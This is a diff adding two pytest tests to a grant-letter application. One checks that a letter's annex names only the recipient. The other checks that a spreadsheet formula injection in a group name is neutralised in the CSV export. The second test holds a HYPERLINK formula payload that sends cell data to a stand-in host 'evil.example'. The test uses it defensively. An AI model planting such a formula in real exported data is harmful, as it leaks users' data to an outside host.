@@ -196,6 +196,25 @@ def test_uep_cash_letter_has_a_cash_line_and_no_stamp(db, staff):
     assert "METERAI" not in first  # Rp2.500.000 is under the stamp-duty threshold
 
 
+def test_a_uep_letters_annex_names_only_its_recipient(db, staff):
+    """A UEP grant is one member's: its printed annex lists that member, not the rest of the group."""
+    maker, checker = staff["maker"], staff["checker"]
+    group = make_group(maker, members=5, status="active", name="Kube Sauyunan")
+    recipient = group.current_members[2]
+    grant = handed_over(maker, checker, group=group, program="UEP", member=recipient,
+                        lines=[{"kind": "cash", "item": "Uang tunai", "unit_value": 2_500_000}])
+    db.session.commit()
+    pages = pdf_pages(letter_of(grant).pdf)
+    annex = pages[-1]
+    assert len(pages) == 2 and "LAMPIRAN" in annex
+    assert "Penerima bantuan UEP, anggota Kube Sauyunan" in annex and "Daftar anggota" not in annex
+    assert recipient.name in annex and mask_nik(recipient.nik) in annex
+    others = [member for member in group.current_members if member.id != recipient.id]
+    # Whole names only: "Warga 1" is part of "Warga 13".
+    assert [m.name for m in others if any(re.search(rf"\b{re.escape(m.name)}\b", page) for page in pages)] == []
+    assert [member.name for member in others if mask_nik(member.nik) in annex] == []
+
+
 @pytest.mark.parametrize("app_overrides", [pytest.param({"OFFICE_HEAD_NAME": "Drs. H. Hasan Basri, M.Si.",
                                                          "OFFICE_HEAD_NIP": "196805121990031007",
                                                          "LETTER_NUMBER_PATTERN": "BAST/{seq:04d}/{program}/{year}",
@@ -513,3 +532,19 @@ def test_officer_exports_the_filtered_list_from_the_web(client, db, staff, login
                            ("year=abc", "Tahun harus angka antara 2000 dan 2100.")):
         response = client.get(f"/letters/export?{query}", follow_redirects=True)
         assert response.status_code == 200 and message in response.get_data(as_text=True), query
+
+
+def test_the_export_list_keeps_a_formula_in_a_group_name_as_text(client, db, staff, login, bearer):
+    maker, checker = staff["maker"], staff["checker"]
+    group = make_group(maker, members=5, status="active")
+    db.session.commit()
+    formula = '=HYPERLINK("http://evil.example/?g="&A2,"Lihat")'
+    response = client.patch(f"/api/v1/groups/{group.id}", json={"name": formula}, headers=bearer(maker))
+    assert response.status_code == 200, response.get_json()
+    handed_over(maker, checker, group=group)
+    db.session.commit()
+    login(maker)
+    response = client.get("/letters/export?year=2025&fmt=zip")
+    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
+        [row] = csv.DictReader(io.StringIO(archive.read(letters.MANIFEST_NAME).decode("utf-8-sig")))
+    assert row["nama_kelompok"] == "'" + formula and row["total_rupiah"] == "17500000"
